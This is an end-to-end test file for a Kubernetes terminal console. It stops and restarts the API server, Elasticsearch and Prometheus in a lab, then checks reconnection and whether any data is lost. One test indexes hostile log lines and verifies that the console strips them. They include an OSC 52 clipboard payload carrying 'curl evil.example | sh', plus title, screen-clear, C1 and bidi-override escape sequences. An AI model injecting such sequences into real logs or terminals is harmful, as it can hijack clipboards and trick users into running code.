// Fault probes against the lab's real components: what the user sees and what is lost when the kube-apiserver,
// Elasticsearch or Prometheus goes away under a running console and comes back, and what reaches the terminal when
// a real Elasticsearch holds hostile log lines. The built console runs in a pseudo-terminal (test/tty/harness.ts);
// components are stopped and started with `lab.mjs stop|start` and each probe leaves the lab as it found it (the
// component running again, its own objects and documents removed).
import { execFile } from 'node:child_process';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { KubeConfig } from '@kubernetes/client-node';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { json, KubeClient, type Json } from '../contract/kubeHttp.js';
import { ConsoleUnderTest, keys } from '../tty/harness.js';
import { eventually } from './eventually.js';

const {
  WARROOM_KUBECONFIG: kubeconfig = '',
  WARROOM_KUBE_CONTEXT: context = '',
  WARROOM_LAB_CONFIG: labConfig = '',
  WARROOM_ES_URL: esUrl = '',
  WARROOM_PROM_URL: promUrl = '',
} = process.env;
const haveLab = Boolean(kubeconfig && existsSync(kubeconfig) && labConfig && esUrl && promUrl);
const LAB = join(import.meta.dirname, '..', 'lab', 'lab.mjs');
const run = promisify(execFile);
const id = Date.now().toString(36);
const dir = mkdtempSync(join(tmpdir(), 'warroom-e2e-faults-'));
let admin: KubeClient;
let running: ConsoleUnderTest[] = [];

/** `node test/lab/lab.mjs ARGS`, without blocking this process (the console's output keeps being read). */
async function lab(...args: string[]): Promise<string> {
  const { stdout } = await run(process.execPath, [LAB, ...args], { encoding: 'utf8' });
  return stdout;
}

function open(opts: { cols?: number; rows?: number } = {}): ConsoleUnderTest {
  const c = new ConsoleUnderTest(['--kubeconfig', kubeconfig, '--context', context, '--config', labConfig], { cols: 120, rows: 40, cwd: dir, ...opts });
  running.push(c);
  return c;
}

function client(server?: string): KubeClient {
  const kc = new KubeConfig();
  kc.loadFromFile(kubeconfig);
  kc.setCurrentContext(context);
  if (!server) return new KubeClient(kc);
  const cluster = kc.getCurrentCluster()!;
  const other = new KubeConfig();
  other.loadFromOptions({
    clusters: kc.clusters.map((c) => (c.name === cluster.name ? { ...c, server } : c)),
    users: kc.users,
    contexts: kc.contexts,
    currentContext: context,
  });
  return new KubeClient(other);
}

/** The request succeeded (200 or 201). */
async function ok(r: Promise<{ status: number; text: string }>): Promise<void> {
  const res = await r;
  expect([200, 201], res.text).toContain(res.status);
}

/**
 * A new namespace takes pods once the controller-manager has made its default ServiceAccount (the
 * ServiceAccount admission refuses them before); after the API server was killed by the probe
 * before, the controller-manager may take a while to catch up.
 */
async function createNamespace(ns: string): Promise<void> {
  await created('/api/v1/namespaces', { apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns } });
  await eventually(async () => (await admin.request(`/api/v1/namespaces/${ns}/serviceaccounts/default`).catch(() => ({ status: 0 }))).status === 200 || `no default ServiceAccount in ${ns} yet`, 60_000);
}

/**
 * POSTs `body` until the server has it: a connection the killed API server left behind, or a 5xx
 * while it settles, is tried again; 409 means an earlier try got through. Anything else fails.
 */
async function created(path: string, body: Json): Promise<void> {
  await eventually(async () => {
    const r = await admin.request(path, { method: 'POST', body }).catch((err: Error) => ({ status: 0, text: err.message }));
    if (r.status === 200 || r.status === 201 || r.status === 409) return true;
    if (r.status === 0 || r.status >= 500) return `${r.status} ${r.text.slice(0, 200)}`;
    throw new Error(`POST ${path}: ${r.status} ${r.text.slice(0, 300)}`);
  }, 60_000);
}

async function command(c: ConsoleUnderTest, line: string): Promise<void> {
  await c.type(`:${line}`);
  c.press(keys.enter);
}

beforeAll(() => {
  if (haveLab) admin = client();
});
afterEach(async () => {
  for (const c of running) await c.quit();
  running = [];
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

// ------------------------------------------------------------------------------------------------ kube-apiserver

const PROBE_NS = `faults-${id}`;
const probePod = (i: number) => `probe-${String(i).padStart(2, '0')}`;

function podBody(name: string): Json {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, labels: { app: 'fault-probe' } },
    spec: {
      containers: [{ name: 'app', image: 'registry.k8s.io/pause:3.10' }],
      tolerations: [{ key: 'kwok.x-k8s.io/node', operator: 'Exists', effect: 'NoSchedule' }],
      terminationGracePeriodSeconds: 1,
    },
  };
}

/** The probe namespace's pods as the API server lists them: name -> phase (pods being deleted left out). */
async function apiPods(c: KubeClient): Promise<Map<string, string>> {
  const r = await c.request(`/api/v1/namespaces/${PROBE_NS}/pods`);
  expect(r.status, r.text).toBe(200);
  const live = (json(r).items as Json[]).filter((p) => !p.metadata.deletionTimestamp);
  return new Map(live.map((p) => [p.metadata.name as string, p.status?.phase as string]));
}

/** Every pod row on the screen below the header: name -> its STATUS cells, one entry per row (a duplicate shows twice). */
function screenPods(c: ConsoleUnderTest): Array<[string, string]> {
  return c
    .lines()
    .slice(3)
    .map((l) => /^.\s*(probe-\d\d)\s+\S+\s+(\S+)/.exec(l))
    .filter((m): m is RegExpExecArray => m !== null)
    .map((m) => [m[1], m[2]]);
}

/** The screen's pod rows against a fresh list: true when they are the same pods with the same phase, once each. */
async function screenMatchesApi(c: ConsoleUnderTest): Promise<true | string> {
  const api = await apiPods(admin);
  const shown = screenPods(c);
  const names = shown.map(([n]) => n);
  const same = names.length === api.size && new Set(names).size === names.length && shown.every(([n, status]) => api.get(n) === status);
  return same || `API ${JSON.stringify([...api])}; screen ${JSON.stringify(shown)}`;
}


// ------------------------------------------------------------------------------------------------ Elasticsearch

const LOGS_NS = `faults-logs-${id}`;
const LOGGER = 'logger-0';
/** The probes' documents go to an index of their own under the console's pattern, deleted afterwards (the lab's Elasticsearch has no delete-by-query). */
const PROBE_INDEX = `warroom-logs-faults-${id}`;

async function es(method: string, path: string, body?: unknown, contentType = 'application/json'): Promise<Json> {
  const r = await fetch(`${esUrl}${path}`, { method, headers: { 'content-type': contentType }, body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body) });
  const text = await r.text();
  expect(r.status, `${method} ${path}: ${text.slice(0, 300)}`).toBeLessThan(300);
  return JSON.parse(text || '{}');
}

/** A log document of the probe's pod in the lab's layout (what the shipper writes), `message` as given. */
function logDoc(pod: Json, ts: number, message: string): Json {
  return {
    '@timestamp': new Date(ts).toISOString(),
    message,
    log: { level: 'info' },
    stream: 'stdout',
    orchestrator: { cluster: { name: context } },
    kubernetes: { namespace: pod.metadata.namespace, pod: { name: pod.metadata.name, uid: pod.metadata.uid }, node: { name: pod.spec.nodeName }, container: { name: 'app' } },
  };
}

/** Indexes `[ts, message]` lines for the pod in bulk (raw NDJSON lines may be given as `raw`), then refreshes. */
async function indexLines(pod: Json, lines: Array<[number, string]>, raw: string[] = []): Promise<void> {
  const ndjson = [...lines.flatMap(([ts, m]) => [JSON.stringify({ index: { _index: PROBE_INDEX } }), JSON.stringify(logDoc(pod, ts, m))]), ...raw];
  for (let i = 0; i < ndjson.length; i += 4000) {
    const res = await es('POST', '/_bulk', ndjson.slice(i, i + 4000).join('\n') + '\n', 'application/x-ndjson');
    expect(res.errors, JSON.stringify(res.items?.find((x: Json) => x.index?.error))?.slice(0, 300)).toBe(false);
  }
  await es('POST', `/${PROBE_INDEX}/_refresh`);
}

/** The messages the index holds for the probe's pod, oldest first. */
async function indexedMessages(): Promise<string[]> {
  const res = await es('POST', `/${PROBE_INDEX}/_search`, {
    size: 10_000,
    query: { bool: { filter: [{ term: { 'kubernetes.namespace': LOGS_NS } }, { term: { 'orchestrator.cluster.name': context } }] } },
    sort: [{ '@timestamp': 'asc' }],
    _source: ['message'],
  });
  return (res.hits.hits as Json[]).map((h) => h._source.message as string);
}

/** A namespace with one Running pod, whose log lines only this probe writes (the shipper ships the seeded systems'). */
async function loggerPod(ns: string): Promise<Json> {
  await createNamespace(ns);
  await created(`/api/v1/namespaces/${ns}/pods`, podBody(LOGGER));
  let pod: Json;
  await eventually(async () => {
    pod = json(await admin.request(`/api/v1/namespaces/${ns}/pods/${LOGGER}`));
    return pod.status?.phase === 'Running' || `phase ${pod.status?.phase}`;
  }, 60_000);
  return pod!;
}

/** Opens the logs of the namespace's one pod; resolves once the pane reads Elasticsearch. */
async function openLogs(c: ConsoleUnderTest, ns: string): Promise<void> {
  await c.waitFor('● live', 30_000);
  await command(c, `pods ${ns}`);
  await c.waitFor(new RegExp(`^.\\s*${LOGGER}\\s.*Running`, 'm'), 30_000);
  c.press('l');
  await c.waitFor(`› ${ns} › Logs (pod)`);
  await c.waitFor(`source: Elasticsearch ${esUrl} index warroom-logs-* orchestrator.cluster.name=${context}`, 30_000);
}

/** The probe's sequence numbers as the screen shows them, in screen order (a repeated line shows twice). */
const shownSeqs = (c: ConsoleUnderTest): number[] => [...c.text().matchAll(/fault-probe seq=(\d{4})/g)].map((m) => Number(m[1]));
const seqLine = (n: number, what: string) => `fault-probe seq=${String(n).padStart(4, '0')} ${what}`;
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);

// ------------------------------------------------------------------------------------------------ Prometheus

/** The braille cells of the charts on the screen, and how many of them are drawn dim (greyed). */
function chartCells(c: ConsoleUnderTest): { cells: number; dim: number } {
  const b = c.term.buffer.active;
  let cells = 0;
  let dim = 0;
  for (let y = 0; y < c.term.rows; y++) {
    const line = b.getLine(b.viewportY + y);
    for (let x = 0; line && x < c.term.cols; x++) {
      const cell = line.getCell(x);
      const cp = cell?.getChars().codePointAt(0) ?? 0;
      // Dots only: a blank braille cell (U+2800) shows nothing either way.
      if (cp > 0x2800 && cp <= 0x28ff) {
        cells++;
        if (cell!.isDim()) dim++;
      }
    }
  }
  return { cells, dim };
}

// ------------------------------------------------------------------------------------------------ hostile log lines

/**
 * Every escape sequence and control character the console may write, and where each comes from; anything else in
 * its output is a finding. SGR (colours, the only thing a log line may keep) has any parameters; the rest are exactly
 * these:
 * - src/terminal/screen.ts: entering the screen, ENTER exactly (`?1049h` `2J` `H` `?25l`: the only erase of the
 *   whole screen and the only cursor home allowed), and leaving it (`?2026l` `0m` `?25h` `?1049l`);
 * - Ink 6.8 (log-update.js through ansi-escapes, write-synchronized.js): `?2026h`/`?2026l` around a frame, cursor up
 *   `nA`, next line `E`, column `nG`/`G`, erase line `2K` and to its end `K`, `?25l` (cli-cursor). Not its
 *   clearTerminal (`2J` `3J` `H`): Ink sends it only for a frame as tall as the terminal, which the console avoids;
 * - src/terminal/lineDiff.ts: the column of a changed cell `nG`, and CR + cursor down `nB` over unchanged rows.
 * C0: LF, and CR before LF (the terminal's own output processing) or before CSI (lineDiff) only: no lone CR, BEL,
 * BS, TAB, ...; no C1 control (U+0080-U+009F, which xterm takes as CSI, OSC, ...), no OSC, DCS, APC, PM or SOS, no
 * other ESC sequence (ESC 7/8, ESC c, keypad modes), and no Unicode bidi override, embedding or isolate
 * (U+202A-U+202E, U+2066-U+2069), which reorder the rest of a row in a terminal that does bidi.
 */
const ENTER = '\x1b[?1049h\x1b[2J\x1b[H\x1b[?25l';
const ALLOWED_CSI: Array<[final: string, params: RegExp]> = [
  ['m', /^[0-9;:]*$/],
  ['A', /^\d*$/],
  ['B', /^\d*$/],
  ['G', /^\d*$/],
  ['E', /^$/],
  ['K', /^2?$/],
  ['h', /^\?(1049|25|2026)$/],
  ['l', /^\?(1049|25|2026)$/],
];
const CSI_AT = /\x1b\[([0-?]*)([ -/]*)([@-~])/y;

/** What the console wrote beyond ENTER, ALLOWED_CSI, LF and CR: each offending sequence or character (JSON-quoted) and how often. */
function forbiddenOutput(written: string): Map<string, number> {
  const raw = written.split(ENTER).join('');
  const found = new Map<string, number>();
  const note = (what: string) => found.set(what, (found.get(what) ?? 0) + 1);
  for (let i = 0; i < raw.length; i++) {
    const code = raw.charCodeAt(i);
    if (code === 0x1b) {
      CSI_AT.lastIndex = i;
      const m = CSI_AT.exec(raw);
      if (m && m[2] === '' && ALLOWED_CSI.some(([final, params]) => final === m[3] && params.test(m[1]))) {
        i = CSI_AT.lastIndex - 1;
        continue;
      }
      note(JSON.stringify(m ? m[0] : raw.slice(i, i + 8)));
    } else if (code === 0x0d) {
      if (raw[i + 1] !== '\n' && raw[i + 1] !== '\x1b') note(JSON.stringify(raw.slice(i, i + 8)));
    } else if ((code < 0x20 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f) || (code >= 0x202a && code <= 0x202e) || (code >= 0x2066 && code <= 0x2069)) {
      note(JSON.stringify(raw[i]));
    }
  }
  return found;
}

/** Hostile lines, each tagged `hostile-NN` so the export can count it. */
const HOSTILE: string[] = [
  `osc52 clipboard \x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07 end`,
  'osc0 title \x1b]0;PWNED-TITLE\x07 and osc2 \x1b]2;PWNED-TITLE-2\x1b\\ end',
  'screen clear \x1b[2J\x1b[3J\x1b[H and erase \x1b[2K end',
  'cursor moves \x1b[10;10H\x1b[5A\x1b[3C\x1b7\x1b8\x1b[s end',
  'modes \x1b[?1049l\x1b[?25h\x1b[?1000h\x1bc\x1b=\x1b> end',
  'bell \x07\x07 and backspace ab\x08\x08 end',
  'progress 10%\rprogress 100% lone CR end',
  'right-to-left \u202Egnp.exe\u202C and isolate \u2067x\u2069 end',
  'invalid UTF-8 as Elasticsearch holds it: lone surrogates \ud800 \udfff end',
  'C1 controls \u009b2J \u009d0;C1-TITLE\u009c \u0090dcs\u009c end',
  'dcs \x1bP1$r0m\x1b\\ apc \x1b_x\x1b\\ pm \x1b^x\x1b\\ end',
  'colour kept \x1b[31mred\x1b[0m \x1b[38;5;208morange\x1b[0m end',
].map((l, i) => `hostile-${String(i + 1).padStart(2, '0')} ${l}`);
const MEGA = `hostile-mb ${'0123456789abcdef'.repeat(65_536)}`;
const SAME_TS = 10_000;

/** Whether the logs pane's lines show their time (T toggles it). */
const showsTimes = (c: ConsoleUnderTest): boolean => c.lines().slice(5, -3).some((l) => /^\d\d:\d\d:\d\d\.\d{3} /.test(l));

/** The lines of the newest export (`w`) in the console's working directory. */
function exported(): string[] {
  const files = readdirSync(dir).filter((f) => f.startsWith('warroom-logs-') && f.endsWith('.log')).sort();
  return files.length ? readFileSync(join(dir, files[files.length - 1]), 'utf8').split('\n').filter(Boolean) : [];
}

const percentile = (xs: number[], p: number) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor((xs.length * p) / 100))];

describe.skipIf(!haveLab)('fault probes against the lab', () => {
  it('kube-apiserver killed while pods are watched, pods created and deleted meanwhile (through a second apiserver): reconnecting, then live with exactly the API\'s pods', async () => {
    await createNamespace(PROBE_NS);
    let down = false;
    let peer = false;
    try {
      for (let i = 0; i < 12; i++) await ok(admin.request(`/api/v1/namespaces/${PROBE_NS}/pods`, { method: 'POST', body: podBody(probePod(i)) }));
      await eventually(async () => [...(await apiPods(admin)).values()].filter((p) => p === 'Running').length === 12 || 'not all 12 Running yet', 60_000);

      const c = open();
      await c.waitFor('● live', 30_000);
      await command(c, `pods ${PROBE_NS}`);
      await c.waitFor(`Systems › ${PROBE_NS} › Pods`);
      await eventually(() => screenMatchesApi(c));

      await lab('stop', '--kill', 'kube-apiserver');
      down = true;
      await c.waitFor(/◌ reconnecting|● stale since/, 30_000);
      // The pods listed are kept while the server is away.
      expect(screenPods(c).map(([n]) => n).sort()).toEqual(Array.from({ length: 12 }, (_, i) => probePod(i)));

      // An HA peer on the same etcd changes the cluster while the console's apiserver is down.
      const started = await lab('start', 'kube-apiserver-peer');
      peer = true;
      const other = client(`https://${/ on (127\.0\.0\.1:\d+) /.exec(started)![1]}`);
      for (let i = 0; i < 4; i++) await ok(other.request(`/api/v1/namespaces/${PROBE_NS}/pods/${probePod(i)}?gracePeriodSeconds=0`, { method: 'DELETE' }));
      for (let i = 12; i < 16; i++) await ok(other.request(`/api/v1/namespaces/${PROBE_NS}/pods`, { method: 'POST', body: podBody(probePod(i)) }));
      expect([...(await apiPods(other)).keys()].sort()).toEqual(Array.from({ length: 12 }, (_, i) => probePod(i + 4)));

      await lab('start', 'kube-apiserver');
      down = false;
      await c.waitFor('● live', 60_000);
      await lab('stop', 'kube-apiserver-peer');
      peer = false;
      // No ghost of a pod deleted meanwhile, none missing, none twice, each in its phase as the server has it
      // (the new ones go Pending -> Running as the scheduler and kwok catch up).
      await eventually(() => screenMatchesApi(c), 60_000);
      await eventually(async () => [...(await apiPods(admin)).values()].every((p) => p === 'Running') || 'new pods not Running yet', 60_000);
      await eventually(() => screenMatchesApi(c), 30_000);
      expect(c.text()).toMatch(new RegExp(`Systems › ${PROBE_NS} › Pods\\s+\\(12\\)`));
    } finally {
      if (down) await lab('start', 'kube-apiserver');
      if (peer) await lab('stop', 'kube-apiserver-peer');
      await admin.request(`/api/v1/namespaces/${PROBE_NS}`, { method: 'DELETE' });
    }
  }, 300_000);

  it('Elasticsearch stopped while a logs pane follows, then started: one line naming the URL, the lines kept, following resumes with every indexed line once', async () => {
    let stopped = false;
    try {
      const pod = await loggerPod(LOGS_NS);
      const t0 = Date.now() - 60_000;
      await indexLines(pod, range(1, 20).map((n) => [t0 + n * 100, seqLine(n, 'before')]));
      const c = open({ rows: 60 });
      await openLogs(c, LOGS_NS);
      await c.waitFor(() => shownSeqs(c).length === 20);
      await indexLines(pod, range(21, 25).map((n) => [Date.now(), seqLine(n, 'followed')]));
      await c.waitFor(() => shownSeqs(c).includes(25), 20_000);

      await lab('stop', 'elasticsearch');
      stopped = true;
      const downAt = Date.now();
      const problem = `cannot reach Elasticsearch at ${esUrl}: connection refused`;
      await c.waitFor(problem, 30_000);
      expect(c.text().split(problem).length - 1, c.text()).toBe(1);
      expect(shownSeqs(c)).toEqual(range(1, 25));

      await lab('start', 'elasticsearch');
      stopped = false;
      // A shipper that buffered through the outage sends its lines late, stamped when they were written; then new ones.
      await indexLines(pod, [...range(26, 30).map((n): [number, string] => [downAt + n, seqLine(n, 'buffered')]), ...range(31, 35).map((n): [number, string] => [Date.now(), seqLine(n, 'after')])]);
      await c.waitFor(() => shownSeqs(c).includes(35), 60_000);
      await c.waitFor(() => !c.text().includes(problem), 30_000);
      expect(shownSeqs(c)).toEqual(range(1, 35));
      expect((await indexedMessages()).map((m) => Number(/seq=(\d+)/.exec(m)![1]))).toEqual(range(1, 35));
    } finally {
      if (stopped) await lab('start', 'elasticsearch');
      // Not es(): an index never made (the probe failed before) must not hide the probe's own error.
      await fetch(`${esUrl}/${PROBE_INDEX}`, { method: 'DELETE' }).catch(() => undefined);
      await admin.request(`/api/v1/namespaces/${LOGS_NS}`, { method: 'DELETE' });
    }
  }, 300_000);

  it('Prometheus stopped while a metrics pane refreshes, then started: one line naming the URL, the last charts greyed with their age, then fresh', async () => {
    let stopped = false;
    try {
      const c = open();
      await c.waitFor('● live', 30_000);
      await command(c, 'ns trade');
      await c.waitFor(/Systems › trade › Applications/);
      await c.waitFor(/APPLICATION.*DESIRED/);
      c.press('m');
      await c.waitFor(/› Metrics/);
      const fresh = new RegExp(`${promUrl.replace(/[.:/]/g, '\\$&')} \\{cluster="${context}"\\}\\s+updated \\d+s ago`);
      await c.waitFor((s) => fresh.test(s) && chartCells(c).cells > 20, 30_000);
      expect(chartCells(c).dim).toBe(0);

      await lab('stop', 'prometheus');
      stopped = true;
      const problem = `cannot reach Prometheus at ${promUrl}`;
      // The next refresh (every 10 s) fails: one line with the URL and the age of what is shown; the charts stay, greyed.
      const down = await c.waitFor((s) => s.includes(problem) && /showing data from \d+s ago; retrying in \d+s/.test(s), 40_000);
      // The pane says it once (the lab's alerts come from the same Prometheus: the status line may say so for them).
      expect(down.split('\n').filter((l) => l.includes(problem) && !l.startsWith(` alerts of ${context}:`)), down).toHaveLength(1);
      const greyed = chartCells(c);
      expect(greyed.cells).toBeGreaterThan(20);
      expect(greyed.dim).toBe(greyed.cells);

      await lab('start', 'prometheus');
      stopped = false;
      await c.waitFor((s) => !s.includes(problem) && fresh.test(s), 60_000);
      await c.waitFor(() => chartCells(c).cells > 20 && chartCells(c).dim === 0);
    } finally {
      if (stopped) await lab('start', 'prometheus');
    }
  }, 180_000);

  it('hostile log lines in the real Elasticsearch: only SGR and the console\'s own cursor sequences reach the terminal, no title, clipboard or bell, every line once, keys answered while 10,000 lines of one timestamp load', async () => {
    const ns = `faults-hostile-${id}`;
    try {
      const pod = await loggerPod(ns);
      const t0 = Date.now() - 30_000;
      await indexLines(pod, [...HOSTILE.map((m, i): [number, string] => [t0 + i, m]), [t0 + HOSTILE.length, MEGA]]);

      const c = open({ rows: 50 });
      const titles: string[] = [];
      const osc: string[] = [];
      let bells = 0;
      c.term.onTitleChange((t) => titles.push(t));
      c.term.onBell(() => bells++);
      // OSC 0 and 2 reach onTitleChange; 1 (icon name) and 52 (clipboard) have no handler of their own in the emulator.
      for (const code of [1, 52]) c.term.parser.registerOscHandler(code, (data) => (osc.push(`${code};${data}`), true));
      await openLogs(c, ns);
      const first = await c.waitFor((s) => HOSTILE.every((_, i) => s.includes(`hostile-${String(i + 1).padStart(2, '0')} `)) && s.includes('hostile-mb 0123'), 30_000);
      // What is left of them: the text, without the sequences; an unpaired surrogate as U+FFFD (valid UTF-8), colours as colours.
      expect(first).toContain('hostile-07 progress 10%progress 100% lone CR end');
      expect(first).toContain('hostile-08 right-to-left gnp.exe and isolate x end');
      expect(first).toContain('lone surrogates \uFFFD \uFFFD end');
      expect(first).toContain('hostile-12 colour kept red orange end');
      expect(c.bufferType).toBe('alternate');

      // T (times on/off) -> the frame that shows it: first on a quiet pane, then while 10,000 lines with one
      // @timestamp arrive. The bound is relative to the quiet figure, so a loaded machine does not fail it, a pane
      // that stalls while it takes the lines in does.
      const pressT = async (times: number): Promise<number[]> => {
        const took: number[] = [];
        for (let k = 0; k < times; k++) {
          const before = showsTimes(c);
          const pressed = performance.now();
          c.press('T');
          await c.waitFor(() => showsTimes(c) !== before, 10_000);
          took.push(performance.now() - pressed);
          await new Promise((r) => setTimeout(r, 200));
        }
        return took;
      };
      const quiet = await pressT(8);
      const same = Date.now();
      const indexing = indexLines(pod, Array.from({ length: SAME_TS }, (_, i): [number, string] => [same, `same-ts ${String(i).padStart(5, '0')}`]));
      const loading = await pressT(12);
      await indexing;
      const figures = (xs: number[]) => `p50 ${percentile(xs, 50).toFixed(0)} ms, p95 ${percentile(xs, 95).toFixed(0)} ms`;
      console.log(`T -> frame: quiet pane ${figures(quiet)}; while 10,000 same-timestamp lines load ${figures(loading)}`);
      expect(percentile(loading, 95)).toBeLessThan(Math.max(1000, 4 * percentile(quiet, 95)));

      // Every indexed line held once: the export (w) against the index.
      const indexed = HOSTILE.length + 1 + SAME_TS;
      await eventually(async () => {
        c.press('w');
        await new Promise((r) => setTimeout(r, 1000));
        const n = exported().length;
        return n === indexed || `${n} of ${indexed} lines exported`;
      }, 90_000);
      const lines = exported();
      const count = (re: RegExp) => lines.filter((l) => re.test(l)).length;
      for (let i = 1; i <= HOSTILE.length; i++) expect(count(new RegExp(`/app hostile-${String(i).padStart(2, '0')} `)), `hostile-${i}`).toBe(1);
      expect(count(/\/app hostile-mb 0123/)).toBe(1);
      const seen = new Set(lines.map((l) => /same-ts (\d{5})$/.exec(l)?.[1]).filter(Boolean));
      expect(seen.size).toBe(SAME_TS);
      expect(count(/same-ts \d{5}$/)).toBe(SAME_TS);
      expect(lines.filter((l) => /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.test(l))).toEqual([]);

      // What reached the terminal: nothing but the allowed sequences, and the emulator's title, clipboard and bell untouched.
      // (The same check flags each hostile line as indexed, but for the lone surrogates, which Node writes as U+FFFD,
      // and the colours, which are allowed: it is not blind to them.)
      expect(HOSTILE.filter((l) => forbiddenOutput(l).size === 0).map((l) => l.slice(0, 10))).toEqual(['hostile-09', 'hostile-12']);
      const bad = forbiddenOutput(c.raw);
      expect([...bad].map(([what, n]) => `${what} x${n}`)).toEqual([]);
      expect(titles).toEqual([]);
      expect(osc).toEqual([]);
      expect(bells).toBe(0);
      expect(c.bufferType).toBe('alternate');
      expect(c.text()).not.toMatch(/PWNED|C1-TITLE/);
    } finally {
      await admin.request(`/api/v1/namespaces/${ns}`, { method: 'DELETE' });
      await es('DELETE', `/${PROBE_INDEX}`).catch(() => undefined);
    }
  }, 300_000);
});
